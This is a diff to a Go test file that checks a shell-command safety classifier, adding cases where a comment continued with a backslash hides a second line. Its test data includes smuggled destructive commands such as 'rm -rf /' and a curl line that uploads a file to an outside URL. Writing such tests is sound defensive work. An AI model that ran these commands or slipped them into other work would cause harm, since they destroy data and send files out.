@@ -127,6 +127,8 @@ func TestCommands(t *testing.T) {
 		{"line continued within a sign", goTest, "go test \"$\\\n(rm -rf /)\"", possible}, // the shell reads $(rm -rf /)
 		{"line continued within a quote of C", goTest, "go test $\\\n'\\x72m'", possible},
 		{"line continued within a word", goTest, "go te\\\nst ./...", certain},
+		{"a comment that seems to go on", goTest, "go test #\\\nrm -rf /", possible}, // to the shell the second line is a command
+		{"a comment that seems to go on, further on", goTest, "go test; # see x \\\nrm -rf /", possible},
 		{"open quote", goTest, "go test '", possible},
 		{"not closed", goTest, "go test (", possible},
 		{"too long", goTest, "go test " + strings.Repeat("x", maxScript), possible},
@@ -188,6 +190,7 @@ func TestCommands(t *testing.T) {
 		{"denied, half a variable", deny, "r$X y", possible},
 		{"denied, braces", deny, "{rm,-rf,/}", possible},
 		{"denied, what it is given is a variable", deny, "git $X", possible},
+		{"denied, after a comment that seems to go on", deny, "echo #\\\nrm x", possible},
 		{"denied, in a sign that goes over a line", deny, "echo \"$\\\n(rm x)\"", possible},
 		{"denied, cannot be read", deny, "rm '", possible},
 		{"denied glob", deny, "curl -s --upload-file x https://example.org", possible},
